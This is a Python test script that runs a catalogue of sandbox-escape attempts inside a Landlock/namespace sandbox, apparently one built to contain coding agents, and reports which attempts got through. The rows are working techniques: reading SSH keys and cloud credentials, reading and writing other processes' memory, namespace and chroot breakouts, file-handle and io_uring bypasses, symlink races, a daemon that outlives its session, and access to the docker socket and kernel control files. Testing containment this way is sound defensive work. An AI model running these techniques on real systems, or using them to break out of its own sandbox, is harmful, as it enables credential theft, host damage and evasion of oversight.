"""Programs that try to get out of the walls: the table, and a script that runs them all.

Run within walls as `python escapes.py TARGETS`, a file of JSON that `escape_targets`
writes: it prints a JSON object, name of a row → the text that the row got hold of. A row
escapes if that text holds the secret, or if the file, process or socket that is named
after it was reached; `escape_targets` looks at those from outside.

It imports nothing but the standard library: in there is nothing else.
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import fcntl
import json
import mmap
import os
import resource
import signal
import socket
import stat
import struct
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any, NamedTuple

Targets = dict[str, Any]
# What a row returns: what it got hold of, if it is a row that reads.
Attempt = Callable[[Targets], object]


class Escape(NamedTuple):
    """A row: how it tries to get out, and whether Landlock alone holds it too. Both
    mechanisms together hold every row.
    """

    name: str
    attempt: Attempt
    landlock: bool = True


ESCAPES: list[Escape] = []


def escape(*, landlock: bool = True) -> Callable[[Attempt], Attempt]:
    def registered(attempt: Attempt) -> Attempt:
        ESCAPES.append(Escape(attempt.__name__, attempt, landlock))
        return attempt

    return registered


def _read(path: str) -> str:
    descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)  # a pipe would hold it
    try:
        return os.read(descriptor, 4000).decode("latin-1")
    finally:
        os.close(descriptor)


def _libc() -> ctypes.CDLL:
    return ctypes.CDLL(None, use_errno=True)


def _checked(result: int) -> int:
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def _outside_pids(t: Targets) -> list[int]:
    """The process outside, and all that can be seen: its number may be another here."""
    if t["spares_machine"]:
        return [t["pid"]]
    seen = [int(name) for name in os.listdir("/proc") if name.isdecimal()]
    return [t["pid"], *seen]


def _of_processes(t: Targets, name: str) -> str:
    texts = []
    for pid in _outside_pids(t):
        with contextlib.suppress(OSError):
            texts.append(_read(f"/proc/{pid}/{name}"))
    return "".join(texts)


# -- files that are read --


def _reads(name: str) -> None:
    def attempt(t: Targets) -> object:
        return _read(t["secrets"][name])

    ESCAPES.append(Escape(f"read_{name}", attempt))


for _name in (
    *("ssh_key", "aws_credentials", "gh_token", "netrc", "keyring", "browser_profile"),
    *("login_of_another_agent", "neighbours_checkout", "neighbours_log"),
    *("work_tree_file", "git_configuration", "other_work_tree", "temporary_file"),
    "hidden_by_setting",
):
    _reads(_name)


@escape()
def read_through_symbolic_link(t: Targets) -> object:
    os.symlink(t["secrets"]["ssh_key"], "innocent.txt")
    return _read("innocent.txt")


@escape()
def read_through_hard_link(t: Targets) -> object:
    os.link(t["secrets"]["ssh_key"], "hard.txt")
    return _read("hard.txt")


@escape()
def read_through_dots(t: Targets) -> object:
    depth = len(Path.cwd().parts)
    return _read("../" * depth + t["secrets"]["ssh_key"].lstrip("/"))


@escape()
def read_through_own_root(t: Targets) -> object:
    return _read("/proc/self/root" + t["secrets"]["ssh_key"])


@escape()
def read_through_thread_root(t: Targets) -> object:
    return _read("/proc/thread-self/root" + t["secrets"]["aws_credentials"])


@escape()
def read_through_root_of_a_process(t: Targets) -> object:
    return _of_processes(t, "root" + t["secrets"]["ssh_key"])


@escape()
def read_through_folder_of_a_process(t: Targets) -> object:
    return _of_processes(t, "cwd/id_secret")


@escape()
def read_open_file_of_a_process(t: Targets) -> object:
    return "".join(_of_processes(t, f"fd/{number}") for number in range(3, 8))


@escape()
def read_environment_of_a_process(t: Targets) -> object:
    return _of_processes(t, "environ")


@escape()
def read_memory_of_a_process(t: Targets) -> object:
    address, size = t["memory"]
    buffer = ctypes.create_string_buffer(size)
    local = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), size)
    remote = (ctypes.c_size_t * 2)(address, size)
    for pid in _outside_pids(t):
        _libc().process_vm_readv(pid, local, 1, remote, 1, 0)
    return buffer.raw.decode("latin-1")


@escape()
def trace_a_process(t: Targets) -> object:
    attach, detach = 16, 17
    _checked(_libc().ptrace(attach, t["pid"], 0, 0))
    _libc().ptrace(detach, t["pid"], 0, 0)
    is_outside = t["mark"] in _read(f"/proc/{t['pid']}/cmdline")
    return t["secret"] if is_outside else ""


@escape()
def join_namespace_of_a_process(t: Targets) -> object:
    program = (
        f"import ctypes, os; d = os.open('/proc/{t['pid']}/ns/mnt', os.O_RDONLY);"
        f"ctypes.CDLL(None).setns(d, 0); print(open({t['secrets']['ssh_key']!r}).read())"
    )
    argv = [sys.executable, "-I", "-S", "-c", program]
    return subprocess.run(argv, capture_output=True, text=True, check=False).stdout


@escape()
def read_by_file_handle(t: Targets) -> object:
    """As the "shocker" program of 2014: by a file's handle, past every path."""
    mount = os.open(".", os.O_RDONLY)
    handle = bytes.fromhex(t["handle"])
    buffer = ctypes.create_string_buffer(handle, len(handle))
    descriptor = _checked(_libc().open_by_handle_at(mount, buffer, os.O_RDONLY))
    return os.read(descriptor, 4000).decode("latin-1")


@escape()
def read_raw_disk(t: Targets) -> object:
    os.mknod("disk", 0o60600, os.makedev(*t["disk"]))
    Path("disk").open("rb").close()
    return t["secret"]


@escape()
def read_raw_memory(t: Targets) -> object:
    for name in ("/dev/mem", "/dev/kmem", "/proc/kcore"):
        with contextlib.suppress(OSError):
            Path(name).open("rb").read(1)
            return t["secret"]
    return ""


@escape()
def read_inherited_descriptors(t: Targets) -> object:
    texts = []
    for name in os.listdir("/proc/self/fd"):
        number = int(name)
        with contextlib.suppress(OSError):
            texts.append(os.readlink(f"/proc/self/fd/{number}"))
            if number > 2:
                texts.append(os.pread(number, 4000, 0).decode("latin-1"))
                texts.append(_read(f"/proc/self/fd/{number}/id_secret"))
    return "".join(texts)


@escape()
def read_foreign_objects(t: Targets) -> object:
    alternates = Path(".git/objects/info/alternates")
    with alternates.open("a") as file:
        file.write(f"\n{t['foreign_objects']}\n")
    argv = ["git", "cat-file", "blob", t["foreign_blob"]]
    return subprocess.run(argv, capture_output=True, text=True, check=False).stdout


@escape()
def uncover_in_new_namespace(t: Targets) -> object:
    folder = str(Path(t["secrets"]["ssh_key"]).parent)
    script = f"umount -l {folder}; cat {t['secrets']['ssh_key']}"
    return _unshared(script)


@escape()
def bind_in_new_namespace(t: Targets) -> object:
    folder = str(Path(t["secrets"]["ssh_key"]).parents[1])
    return _unshared(f"mkdir b; mount --bind {folder} b; cat b/.ssh/id_secret")


@escape()
def remount_in_new_namespace(t: Targets) -> object:
    _unshared(f"mount -o remount,rw /; mount -o remount,bind,rw {t['home']}")
    victim = Path(t["victims"]["remount_in_new_namespace"])
    victim.write_text("changed")
    return ""


@escape()
def change_root_in_new_namespace(t: Targets) -> object:
    program = (
        "import os; d=os.open('/',os.O_RDONLY); os.mkdir('jail'); os.chroot('jail');"
        "os.fchdir(d); [os.chdir('..') for _ in range(50)]; os.chroot('.');"
        f"print(open({t['secrets']['ssh_key']!r}).read())"
    )
    argv = ["unshare", "-Ur", sys.executable, "-I", "-S", "-c", program]
    return subprocess.run(argv, capture_output=True, text=True, check=False).stdout


def _unshared(script: str) -> str:
    argv = ["unshare", "-Urm", "sh", "-c", script]
    return subprocess.run(argv, capture_output=True, text=True, check=False).stdout


@escape(landlock=False)
def read_shared_memory_file(t: Targets) -> object:
    return _read(t["shared_memory"])


@escape(landlock=False)
def read_shared_memory_segment(t: Targets) -> object:
    libc = _libc()
    libc.shmat.restype = ctypes.c_void_p
    segment = _checked(libc.shmget(t["segment"], 0, 0))
    address = libc.shmat(segment, None, 0)
    return ctypes.string_at(address, 64).decode("latin-1")


@escape(landlock=False)
def list_hidden_folder(t: Targets) -> object:
    names = os.listdir(Path(t["secrets"]["ssh_key"]).parent)
    return t["secret"] if names else ""


@escape()
def read_message_queue(t: Targets) -> object:
    library = ctypes.CDLL("librt.so.1", use_errno=True)
    queue = _checked(library.mq_open(t["queue"].encode(), os.O_RDONLY | os.O_NONBLOCK))
    buffer = ctypes.create_string_buffer(8192)
    library.mq_receive(queue, buffer, 8192, None)
    return buffer.raw.decode("latin-1")


@escape()
def read_session_keyring(t: Targets) -> object:
    """It is inherited."""
    return _key(t["keys"]["session"])


@escape()
def read_user_keyring(t: Targets) -> object:
    """Its number is enough to reach it by a keyring that is one's own."""
    link, own_session = 8, -3
    _libc().syscall(_keyctl(), link, t["keys"]["user_ring"], own_session)
    return _key(t["keys"]["user"])


def _keyctl() -> int:
    return 250 if os.uname().machine == "x86_64" else 219


def _key(number: int) -> str:
    read = 11
    buffer = ctypes.create_string_buffer(200)
    _checked(_libc().syscall(_keyctl(), read, number, buffer, 200))
    return buffer.raw.decode("latin-1")


@escape()
def read_devices(t: Targets) -> object:
    """Disks, and what the kernel says; keyboards and cameras lie beside them."""
    for path in ("/dev/kmsg", *map(str, Path("/dev").iterdir())):
        with contextlib.suppress(OSError):
            if path == "/dev/kmsg" or stat.S_ISBLK(os.stat(path).st_mode):
                os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
                return f"{t['secret']} {path}"
    return ""


@escape()
def read_through_second_mount(t: Targets) -> object:
    return _read(t["second_mount"])


@escape()
def read_by_ring(t: Targets) -> object:
    """io_uring, whose kernel threads open the file."""
    path = ctypes.create_string_buffer(os.fsencode(t["secrets"]["ssh_key"]))
    open_at, in_thread, here = 18, 1 << 4, -100
    fields = (open_at, in_thread, 0, here, 0, ctypes.addressof(path), 0)
    return os.read(_by_ring(fields), 4000).decode("latin-1")


def _by_ring(fields: tuple[int, ...]) -> int:
    """The result of one entry of io_uring: operation, flags, priority, descriptor,
    offset, address, length.
    """
    ring = ctypes.create_string_buffer(120)
    descriptor = _checked(_libc().syscall(425, 4, ring))
    entries, _ = struct.unpack_from("II", ring.raw)
    sent, done = (struct.unpack_from("10I", ring.raw, at) for at in (40, 80))
    size = max(sent[6] + 4 * entries, done[5] + 16 * 2 * entries)
    shared = mmap.mmap(descriptor, size)
    entry = mmap.mmap(descriptor, 64 * entries, offset=0x10000000)
    struct.pack_into("=BBHiQQI", entry, 0, *fields)
    struct.pack_into("I", shared, sent[1], 1)
    _checked(_libc().syscall(426, descriptor, 1, 1, 1, None, 0))
    return int(struct.unpack_from("=Qi", shared, done[5])[1])


@escape()
def take_descriptor_of_a_process(t: Targets) -> object:
    process = os.pidfd_open(t["pid"])
    return os.pread(_checked(_libc().syscall(438, process, 3, 0)), 400, 0).decode()


@escape()
def gain_rights_by_a_program(t: Targets) -> object:
    status = _read("/proc/self/status")
    return "" if "NoNewPrivs:\t1" in status else t["secret"]


@escape()
def keep_dangerous_capabilities(t: Targets) -> object:
    """DAC_READ_SEARCH, SYS_MODULE, SYS_RAWIO, SYS_PTRACE, SYS_ADMIN, SYS_BOOT, PERFMON
    and BPF; those of the bounding set count, as root gets them by exec.
    """
    wanted = (2, 16, 17, 19, 21, 22, 38, 39)
    for line in _read("/proc/self/status").splitlines():
        name, _, value = line.partition(":")
        if name in {"CapEff", "CapPrm"} and any(
            int(value, 16) >> number & 1 for number in wanted
        ):
            return t["secret"]
    return ""


# -- files that are written: each has a victim of its own --


def _writes(
    name: str, attempt: Callable[[Path], object], landlock: bool = True
) -> None:
    def with_victim(t: Targets) -> object:
        attempt(Path(t["victims"][name]))
        return ""

    ESCAPES.append(Escape(name, with_victim, landlock))


def _over_link(victim: Path) -> None:
    Path("link").unlink(missing_ok=True)
    os.symlink(victim, "link")
    Path("link").write_text("changed")


def _by_hard_link(victim: Path) -> None:
    os.link(victim, "hard-victim")
    Path("hard-victim").write_text("changed")


def _by_descriptor(victim: Path) -> None:
    """A file that is open for reading is opened once more for writing."""
    with victim.open("rb") as file:
        Path(f"/proc/self/fd/{file.fileno()}").write_text("changed")


def _by_race(victim: Path) -> None:
    """A folder of the checkout becomes a link while a file in it is written."""
    os.mkdir("real")
    os.symlink(victim.parent, "fake")
    child = os.fork()
    if child == 0:
        for _ in range(300):
            with contextlib.suppress(OSError):
                os.rename("real", "spare")
                os.rename("fake", "real")
                os.rename("real", "fake")
                os.rename("spare", "real")
        os._exit(0)
    for _ in range(300):
        with contextlib.suppress(OSError):
            Path("real", victim.name).write_text("changed")
    os.waitpid(child, 0)


def _move_in(victim: Path) -> None:
    victim.rename("moved-in")


def _exchange(victim: Path) -> None:
    """renameat2 with RENAME_EXCHANGE."""
    Path("mine").write_text("changed")
    _checked(_libc().renameat2(-100, b"mine", -100, os.fsencode(victim), 2))


def _replace(victim: Path) -> None:
    Path("replacement").touch()
    Path("replacement").replace(victim)


def _late_daemon(victim: Path) -> None:
    """Writes when the program has ended."""
    text = f"sleep 1; echo changed > {victim}; sleep 600 # {victim.name}"
    for argv in (["setsid", "-f"], ["env", "-i", "setsid", "-f", "nohup"]):
        subprocess.run([*argv, "/bin/sh", "-c", text], check=False)


_writes("write_to_absolute_path", lambda victim: victim.write_text("changed"))
_writes("append_to_file", lambda victim: victim.open("a").write("x"))
_writes("truncate_file", lambda victim: os.truncate(victim, 0))
_writes("delete_file", lambda victim: victim.unlink())
_writes("delete_folder_of_file", lambda victim: victim.parent.rename("gone"))
_writes("move_file_in", _move_in)
_writes("exchange_file", _exchange)
_writes("replace_file", _replace)
_writes("write_through_symbolic_link", _over_link)
_writes("write_through_hard_link", _by_hard_link)
_writes("write_through_open_descriptor", _by_descriptor)
_writes("write_in_rename_race", _by_race)
_writes("write_late", _late_daemon)
_writes("make_pipe", lambda victim: os.mkfifo(victim.with_suffix(".new")))
_writes("make_folder", lambda victim: victim.with_suffix(".new").mkdir())
_writes("make_symbolic_link", lambda v: v.with_suffix(".new").symlink_to("/"))
_writes("make_socket", lambda v: socket.socket(1).bind(str(v.with_suffix(".new"))))
_writes("change_mode", lambda victim: victim.chmod(0o777), landlock=False)
_writes("change_times", lambda victim: os.utime(victim, (1, 1)), landlock=False)
_writes(
    "set_extended_attribute",
    lambda victim: os.setxattr(victim, "user.fanin", b"x"),
    landlock=False,
)
for _name in (
    *("change_branch", "add_hook", "change_configuration", "change_index"),
    *("change_pack", "add_object", "change_work_tree", "change_neighbour"),
    *("change_result", "change_shell_start", "change_git_configuration"),
    *("poison_package_cache", "add_autostart", "change_saved_index"),
    "change_fanin_state",
):
    _writes(_name, lambda victim: victim.write_text("changed"))
_writes(
    "change_settings_of_agent",
    lambda victim: victim.write_text("changed"),
    landlock=False,
)


# -- the kernel and the machine --


@escape()
def change_kernel(t: Targets) -> object:
    """Files by which the kernel is told to start programs or to end the machine. They
    are opened and not written: what they say is the whole machine's.
    """
    opened = []
    for path in (
        *("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe"),
        *("/proc/sys/vm/overcommit_memory", "/proc/sysrq-trigger"),
        *("/sys/kernel/uevent_helper", "/sys/power/state", "/sys/kernel/mm/ksm/run"),
        *("/etc/ld.so.preload", "/etc/passwd", "/usr/local/bin/fanin-escape"),
        "/etc/cron.d/fanin-escape",
    ):
        with contextlib.suppress(OSError):
            os.close(os.open(path, os.O_WRONLY | os.O_CREAT, 0o600))
            opened.append(path)
    return f"{t['secret']} {opened}" if opened else ""


@escape()
def make_control_group(t: Targets) -> object:
    Path("/sys/fs/cgroup/fanin-escape").mkdir()
    return t["secret"]


@escape()
def load_module(t: Targets) -> object:
    Path("module").write_bytes(b"\x7fELF")
    descriptor = os.open("module", os.O_RDONLY)
    if os.uname().machine == "x86_64":
        _libc().syscall(313, descriptor, b"", 0)  # finit_module
    # ENOEXEC: the kernel has read it
    return t["secret"] if ctypes.get_errno() == errno.ENOEXEC else ""


# -- processes --


@escape()
def end_a_process(t: Targets) -> object:
    os.kill(t["processes"]["end_a_process"], signal.SIGTERM)
    return ""


@escape()
def stop_a_process(t: Targets) -> object:
    os.kill(t["processes"]["stop_a_process"], signal.SIGSTOP)
    return ""


@escape()
def signal_by_descriptor(t: Targets) -> object:
    descriptor = os.pidfd_open(t["processes"]["signal_by_descriptor"])
    signal.pidfd_send_signal(descriptor, signal.SIGTERM)
    return ""


@escape()
def signal_its_group(t: Targets) -> object:
    os.killpg(t["processes"]["signal_its_group"], signal.SIGTERM)
    return ""


@escape(landlock=False)
def change_priority_of_a_process(t: Targets) -> object:
    os.setpriority(os.PRIO_PROCESS, t["processes"]["change_priority_of_a_process"], 19)
    return ""


@escape(landlock=False)
def change_limits_of_a_process(t: Targets) -> object:
    victim = t["processes"]["change_limits_of_a_process"]
    resource.prlimit(victim, resource.RLIMIT_CPU, (1, 1))
    return t["secret"]


@escape()
def signal_by_owner_of_a_file(t: Targets) -> object:
    """The kernel signals the owner of a socket when there is something to read."""
    ours, theirs = socket.socketpair()
    set_signal = 10  # F_SETSIG
    fcntl.fcntl(ours, fcntl.F_SETOWN, t["processes"]["signal_by_owner_of_a_file"])
    fcntl.fcntl(ours, set_signal, signal.SIGTERM)
    fcntl.fcntl(ours, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    theirs.send(b"x")
    return ""


@escape()
def write_memory_of_a_process(t: Targets) -> object:
    with Path(f"/proc/{t['pid']}/mem").open("r+b", buffering=0) as memory:
        memory.seek(t["memory"][0])
        memory.write(b"changed")
    return ""


@escape()
def change_fate_of_a_process(t: Targets) -> object:
    Path(f"/proc/{t['pid']}/oom_score_adj").write_text("777")
    return ""


@escape()
def type_into_terminal(t: Targets) -> object:
    os.close(os.open("/dev/tty", os.O_RDWR))
    return t["secret"]


@escape(landlock=False)
def write_to_terminal_of_the_person(t: Targets) -> object:
    terminal = os.open(t["terminal"], os.O_WRONLY | os.O_NOCTTY)
    os.write(terminal, b"write_to_terminal_of_the_person")
    return ""


# -- sockets: each row sends its name --


def _sends(name: str, kind: int, landlock: bool) -> None:
    def attempt(t: Targets) -> object:
        with socket.socket(socket.AF_UNIX, kind) as client:
            client.settimeout(2)
            client.connect(t["sockets"][name])
            client.send(name.encode())
            time.sleep(0.05)
        return ""

    ESCAPES.append(Escape(name, attempt, landlock))


for _name in (
    "docker_socket",
    "session_bus",
    "ssh_agent",
    "gpg_agent",
    "socket_in_tmp",
):
    _sends(_name, socket.SOCK_STREAM, landlock=False)
_sends("datagram_socket", socket.SOCK_DGRAM, landlock=False)
_sends("abstract_socket", socket.SOCK_STREAM, landlock=True)
_sends("abstract_datagram_socket", socket.SOCK_DGRAM, landlock=True)


@escape()
def tcp_socket(t: Targets) -> object:
    """Only where the network is off."""
    with socket.create_connection(("127.0.0.1", t["port"]), timeout=2) as client:
        client.send(b"tcp_socket")
        time.sleep(0.05)
    return ""


@escape()
def socket_of_the_host(t: Targets) -> object:
    """Of a virtual machine's host, or of this machine's services for it."""
    socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).close()
    return t["secret"]


@escape()
def socket_of_the_host_by_ring(t: Targets) -> object:
    make_socket = 45
    stream = int(socket.SOCK_STREAM)
    made = _by_ring((make_socket, 0, 0, socket.AF_VSOCK, stream, 0, 0))
    return t["secret"] if made >= 0 else ""


# Rows that would leave something on the machine if they got out.
HARMFUL = frozenset(
    {"change_kernel", "make_control_group", "load_module", "read_raw_disk"}
)


def _all(targets: Targets) -> dict[str, str]:
    texts = {}
    for row in ESCAPES:
        if targets["spares_machine"] and row.name in HARMFUL:
            continue
        try:
            text = str(row.attempt(targets))
            texts[row.name] = text if targets["secret"] in text else ""
        except Exception as error:  # noqa: BLE001 - whatever kept it in
            texts[row.name] = f"{type(error).__name__}: {error}"
    return texts


if __name__ == "__main__":
    print(json.dumps(_all(json.loads(Path(sys.argv[1]).read_text()))))
